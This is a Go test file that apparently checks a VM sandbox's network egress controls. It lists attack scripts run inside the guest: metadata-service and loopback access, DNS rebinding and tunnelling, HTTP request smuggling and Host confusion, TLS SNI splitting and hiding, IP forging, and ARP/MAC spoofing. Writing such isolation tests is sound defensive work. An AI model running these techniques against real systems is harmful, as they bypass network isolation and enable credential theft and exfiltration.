package adversary_test

import (
	"fmt"
	"strings"
)

// recorded says where an attempt must have left a trace.
type recorded string

// The traces.
const (
	denied  recorded = "denied"  // in the list of refusals
	dropped recorded = "dropped" // in the counters of packets
	nowhere recorded = "nowhere" // it never left the guest
)

// egressAttack is an attempt to reach what must not be reached. The script says
// THROUGH if it was answered.
type egressAttack struct {
	name, script string
	trace        recorded
	// wrecks is set if the guest has no network afterwards.
	wrecks bool
	// legit is set if it gets through with the policy "public".
	legit bool
	// may is what arrives before the part that must not; "" for nothing.
	may string
}

// tools is what the scripts import.
const tools = `import socket, ssl, struct, time
socket.setdefaulttimeout(5)
REQUEST = b'GET / HTTP/1.1\r\nHost: %s\r\n\r\n'

def get(host, port, send=REQUEST):
    s = socket.create_connection((host, port))
    s.sendall(send % host.encode() if b'%s' in send else send)
    return s.recv(100)

def told(got):
    print('THROUGH' if b'bait' in got or b'200 OK' in got else 'answer %r' % got[:60])

def tcp(host, port, send=REQUEST):
    told(get(host, port, send))

def packet(to, port, what=b'x'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(what, (to, port))
    return s.recv(1)

# Names.

def question(name, kind=1):
    return b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00' + b''.join(
        bytes([len(l)]) + l for l in name.encode().split(b'.')) + struct.pack('!BHH', 0, kind, 1)

def verdict(a):
    print('THROUGH' if struct.unpack('!H', a[6:8])[0] else 'refused')

def ask(q, server='10.11.0.1'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(q, (server, 53))
    verdict(s.recv(600))

def ask_tcp(q, server):
    s = socket.create_connection((server, 53))
    s.sendall(struct.pack('!H', len(q)) + q)
    s.recv(2)
    verdict(s.recv(600))

# The beginning of TLS: one record with a ClientHello.

def hello(name):
    o = ssl.MemoryBIO()
    try:
        ssl._create_unverified_context().wrap_bio(ssl.MemoryBIO(), o, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        return o.read()

def records(h, n):
    cut = [h[i:i + n] for i in range(5, len(h), n)]
    return b''.join(b'\x16\x03\x01' + struct.pack('!H', len(c)) + c for c in cut)

def segments(h, n):
    return [h[i:i + n] for i in range(0, len(h), n)]

def extended(h, kind, body):
    b = bytearray(h + struct.pack('!HH', kind, len(body)) + body)
    def number(at): return struct.unpack_from('!H', b, at)[0]
    def grow(at): struct.pack_into('!H', b, at, number(at) + 4 + len(body))
    grow(3), grow(7)
    at = 43
    at += 1 + b[at]
    at += 2 + number(at)
    at += 1 + b[at]
    grow(at)
    return bytes(b)

def say(pieces, host='allowed.example'):
    s = socket.create_connection((host, 443))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for p in pieces:
        s.sendall(p)
        time.sleep(.02)
    told(s.recv(100))

# Frames and packets of one's own.

GATEWAY, SELF = bytes.fromhex('5254000000fe'), bytes.fromhex('525400000001')

def frame(to, sender, kind, body):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind(('eth0', 0))
    s.send(to + sender + struct.pack('!H', kind) + body)

def ip(source, to='93.184.215.14'):
    def head(sum): return struct.pack('!BBHHHBBH4s4s', 0x45, 0, 28, 1, 0, 64, 17, sum, socket.inet_aton(source), socket.inet_aton(to))
    n = sum(struct.unpack('!10H', head(0)))
    return head(~((n & 0xffff) + (n >> 16)) & 0xffff) + struct.pack('!HHHH', 53, 9, 8, 0)

def arp(sender, address, op=2):
    return struct.pack('!HHBBH', 1, 0x800, 6, 4, op) + sender + socket.inet_aton(address) + SELF + socket.inet_aton('10.11.0.1')
`

// py makes a script that Python runs in the guest as root.
func py(lines ...string) string {
	return "timeout 20 python3 - <<'EOF'\nimport sys\nsys.path.append('/root')\nfrom tools import *\n" + strings.Join(lines, "\n") + "\nEOF"
}

// egressAttacks lists the attempts. One port of the host's own listens.
func egressAttacks(own int) []egressAttack {
	var all []egressAttack
	for _, some := range [][]egressAttack{
		addressAttacks(own), resolvedAttacks(), packetAttacks(), nameAttacks(), httpAttacks(), tlsAttacks(), linkAttacks(),
	} {
		all = append(all, some...)
	}
	return all
}

// addressAttacks are about where a connection is meant to go.
func addressAttacks(own int) []egressAttack {
	return []egressAttack{
		{name: "an address", script: py("tcp('93.184.215.14', 80)"), trace: denied, legit: true},
		{name: "a name that is not allowed", script: py("tcp('forbidden.example', 80)"), trace: denied, legit: true},
		{name: "a port that is not allowed", script: py("tcp('allowed.example', 8080)"), trace: denied, legit: true},
		{name: "the gateway", script: py("tcp('10.11.0.1', 22)"), trace: denied},
		{name: "the gateway's own ports", script: py("tcp('10.11.0.1', 1)"), trace: denied},
		{name: "a port of the host", script: py(fmt.Sprintf("tcp('10.11.0.1', %d)", own)), trace: denied},
		{name: "the host's loopback", script: `sysctl -qw net.ipv4.conf.all.route_localnet=1 net.ipv4.conf.eth0.route_localnet=1
			ip route del table local local 127.0.0.0/8; ip route del table local local 127.0.0.1
			ip route add 127.0.0.0/8 via 10.11.0.1 src 10.11.0.2; ` + py(fmt.Sprintf("try: tcp('127.0.0.1', %d)", own), "except OSError: pass", fmt.Sprintf("packet('127.0.0.1', %d)", own)), trace: dropped, wrecks: true},
		{name: "the metadata service", script: py("tcp('169.254.169.254', 80)"), trace: denied},
		{name: "a private address", script: py("tcp('10.1.2.3', 80)"), trace: denied},
		{name: "a stand-in that stands for nothing", script: py("tcp('198.18.99.99', 80)"), trace: denied},
		{name: "another machine's address", script: py("tcp('10.11.0.6', 22)"), trace: denied},
		{name: "a neighbour of its link", script: py("tcp('10.11.0.3', 7070)"), trace: nowhere},
	}
}

// resolvedAttacks are about what an allowed name leads to.
func resolvedAttacks() []egressAttack {
	return []egressAttack{
		{name: "a name that resolves to the host's loopback", script: py("tcp('loopback.example', 80)"), trace: denied},
		{name: "a name that resolves to a private address", script: py("tcp('private.example', 80)"), trace: denied},
		{name: "a name that resolves to metadata", script: py("tcp('metadata.example', 80)"), trace: denied},
		{name: "a private address in IPv6's clothes", script: py("tcp('mapped.example', 80)"), trace: denied},
		{name: "a name that resolves to a stand-in", script: py("tcp('standin.example', 80)"), trace: denied},
		{name: "a name that resolves to another address the second time", trace: denied, may: "93.184.215.18:80",
			script: py("assert b'200 OK' in get('rebound.example', 80)", "tcp('rebound.example', 80)")},
	}
}

// packetAttacks send what is no TCP.
func packetAttacks() []egressAttack {
	return []egressAttack{
		{name: "UDP", script: py("packet('93.184.215.14', 4242)"), trace: dropped},
		{name: "QUIC", script: py("packet(socket.gethostbyname('allowed.example'), 443, b'\\xc0' + b'x' * 1200)"), trace: dropped},
		{name: "ping", script: py("s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)",
			"s.sendto(b'\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00', ('93.184.215.14', 0))"), trace: dropped},
		{name: "a protocol of its own", script: py("s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253)",
			"s.sendto(b'out', ('93.184.215.14', 0))"), trace: dropped},
		{name: "a forged source", script: py("s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)",
			"s.sendto(ip('10.11.0.1'), ('93.184.215.14', 0))"), trace: dropped},
		{name: "frames from another MAC", script: py("frame(GATEWAY, SELF[:5] + b'\\x99', 0x800, ip('10.11.0.2'))"), trace: dropped},
		{name: "frames to another machine's MAC", script: py("frame(SELF[:5] + b'\\x02', SELF, 0x800, ip('10.11.0.2', '10.11.0.6'))"), trace: dropped},
		{name: "frames of a protocol of its own", script: py("frame(GATEWAY, SELF, 0x88b5, b'out')"), trace: dropped},
		{name: "the gateway's address in ARP", script: py("frame(b'\\xff' * 6, SELF, 0x806, arp(SELF, '10.11.0.1'))"), trace: dropped},
		{name: "another machine's address in ARP", script: py("frame(b'\\xff' * 6, SELF, 0x806, arp(SELF, '10.11.0.6', 1))"), trace: dropped},
		{name: "another machine's MAC in ARP", script: py("frame(GATEWAY, SELF, 0x806, arp(SELF[:5] + b'\\x02', '10.11.0.2'))"), trace: dropped},
		{name: "IPv6", script: `sysctl -qw net.ipv6.conf.eth0.disable_ipv6=0
			ip -6 addr add 2001:470::2/64 dev eth0 nodad; ip -6 route add default dev eth0
			ip -6 neigh add 2606:2800:21f:cb07:6820:80da:af6b:8b2c lladdr 52:54:00:00:00:fe dev eth0; ` +
			py("tcp('2606:2800:21f:cb07:6820:80da:af6b:8b2c', 80)"), trace: dropped, wrecks: true},
	}
}

// nameAttacks have names carry something out, or ask somebody else.
func nameAttacks() []egressAttack {
	return []egressAttack{
		{name: "another server for names", script: py("ask(question('forbidden.example'), '8.8.8.8')"), trace: denied, legit: true},
		{name: "another server for names by TCP", script: py("ask_tcp(question('forbidden.example'), '8.8.8.8')"), trace: denied, legit: true},
		{name: "bytes in a name", script: py("ask(question('61' * 31 + '.tunnel.example'))"), trace: denied, legit: true},
		{name: "bytes in a name that is too long", script: py("ask(question('.'.join(['61' * 31] * 4) + '.allowed.example'))"), trace: denied},
		{name: "bytes in a text record", script: py("ask(question('allowed.example', 16))"), trace: denied},
		{name: "bytes in a null record", script: py("ask(question('allowed.example', 10))"), trace: denied},
		{name: "all records", script: py("ask(question('allowed.example', 255))"), trace: denied},
		{name: "more questions than anybody has", script: py(
			"s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
			"for i in range(600): s.sendto(question('allowed.example'), ('10.11.0.1', 53))"), trace: denied},
	}
}

// httpAttacks say another name in a request than the connection is for.
func httpAttacks() []egressAttack {
	const foreign = `b'GET / HTTP/1.1\r\nHost: forbidden.example\r\n\r\n'`
	send := func(what string) string { return py("tcp('allowed.example', 80, " + what + ")") }
	return []egressAttack{
		{name: "a forbidden name in the request", script: send(foreign), trace: denied},
		{name: "a forbidden name in the second request", trace: denied, may: "93.184.215.14:80",
			script: py("s = socket.create_connection(('allowed.example', 80))",
				"s.sendall(REQUEST % b'allowed.example' + "+foreign+")",
				"got = b''.join(iter(lambda: s.recv(4096), b''))",
				"print('THROUGH' if got.count(b'bait') > 1 else got)")},
		{name: "a forbidden name after a change of protocol that is refused", trace: denied, may: "93.184.215.14:80",
			script: py("s = socket.create_connection(('allowed.example', 80))",
				"s.sendall(b'GET / HTTP/1.1\\r\\nHost: allowed.example\\r\\nUpgrade: websocket\\r\\n\\r\\n' + "+foreign+")",
				"got = b''.join(iter(lambda: s.recv(4096), b''))",
				"print('THROUGH' if got.count(b'bait') > 1 else got)")},
		{name: "two names in one request", trace: denied,
			script: send(`b'GET / HTTP/1.1\r\nHost: allowed.example\r\nHost: forbidden.example\r\n\r\n'`)},
		{name: "a forbidden name in the request's target", trace: denied,
			script: send(`b'GET http://forbidden.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n'`)},
		{name: "a request within the body of another", trace: denied, may: "93.184.215.14:80",
			script: send(`b'POST / HTTP/1.1\r\nHost: allowed.example\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' + ` + foreign)},
		{name: "a tunnel through a proxy", trace: denied,
			script: send(`b'CONNECT forbidden.example:443 HTTP/1.1\r\nHost: forbidden.example:443\r\n\r\n'`)},
		{name: "a tunnel through a proxy of an allowed name", trace: denied,
			script: send(`b'CONNECT forbidden.example:443 HTTP/1.1\r\nHost: allowed.example\r\n\r\n'`)},
		{name: "a redirect to a forbidden name", trace: denied, may: "93.184.215.14:80", legit: true,
			script: "curl -sSL -m 20 http://allowed.example/away | grep -q bait && echo THROUGH; true"},
	}
}

// tlsAttacks say another name in TLS, or hide it.
func tlsAttacks() []egressAttack {
	return []egressAttack{
		{name: "a forbidden name in TLS", script: py("say([hello('forbidden.example')])"), trace: denied},
		{name: "a forbidden name in TLS cut into records", script: py("say([records(hello('forbidden.example'), 40)])"), trace: denied},
		{name: "a forbidden name in TLS cut into segments", script: py("say(segments(hello('forbidden.example'), 60))"), trace: denied},
		{name: "a forbidden name in TLS cut into both", script: py("say(segments(records(hello('forbidden.example'), 50), 70))"), trace: denied},
		{name: "no name in TLS", script: py("say([hello(None)])"), trace: denied},
		{name: "a hidden name in TLS", script: py("say([extended(hello('allowed.example'), 0xfe0d, b'\\0' * 60)])"), trace: denied},
		{name: "two names in TLS", script: py("say([extended(hello('allowed.example'), 0, b'\\0\\x14\\0\\0\\x11forbidden.example')])"), trace: denied},
		{name: "no TLS on its port", script: py("tcp('allowed.example', 443)"), trace: denied},
		{name: "an allowed name in TLS and a forbidden one in the request", trace: denied, script: py(
			"c = ssl._create_unverified_context()",
			"s = c.wrap_socket(socket.create_connection(('keyed.example', 443)), server_hostname='keyed.example')",
			"s.sendall(REQUEST % b'forbidden.example')", "told(s.recv(100))")},
	}
}

// linkAttacks change the guest's end of the link.
func linkAttacks() []egressAttack {
	return []egressAttack{
		{name: "another address for itself", wrecks: true, trace: dropped, script: "ip addr add 10.11.0.77/30 dev eth0; " + py(
			"s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)", "s.bind(('10.11.0.77', 0))", "s.sendto(b'x', ('93.184.215.14', 53))")},
		{name: "another MAC for itself", wrecks: true, trace: dropped,
			script: "ip link set eth0 address 52:54:00:00:00:77; " + py("tcp('allowed.example', 80)")},
		{name: "a bridge, and a machine behind it", wrecks: true, trace: dropped, script: `ip link add br0 type bridge && ip link set br0 up
			ip netns add behind; ip link add b0 type veth peer name b1; ip link set b1 netns behind
			ip link set eth0 master br0; ip link set b0 master br0 up
			ip -n behind addr add 10.11.0.2/30 dev b1; ip -n behind link set b1 up; ip -n behind route add default via 10.11.0.1
			ip -n behind neigh add 10.11.0.1 lladdr 52:54:00:00:00:fe dev b1; ip netns exec behind sh -c "$(cat <<'BEHIND'
` + py("tcp('93.184.215.14', 80)") + "\nBEHIND\n)\"; true"},
		{name: "another way out", wrecks: true, trace: denied, script: "ip route add 1.2.3.0/24 dev eth0; " +
			"ip neigh add 1.2.3.4 lladdr 52:54:00:00:00:fe dev eth0; " + py("tcp('1.2.3.4', 80)")},
	}
}
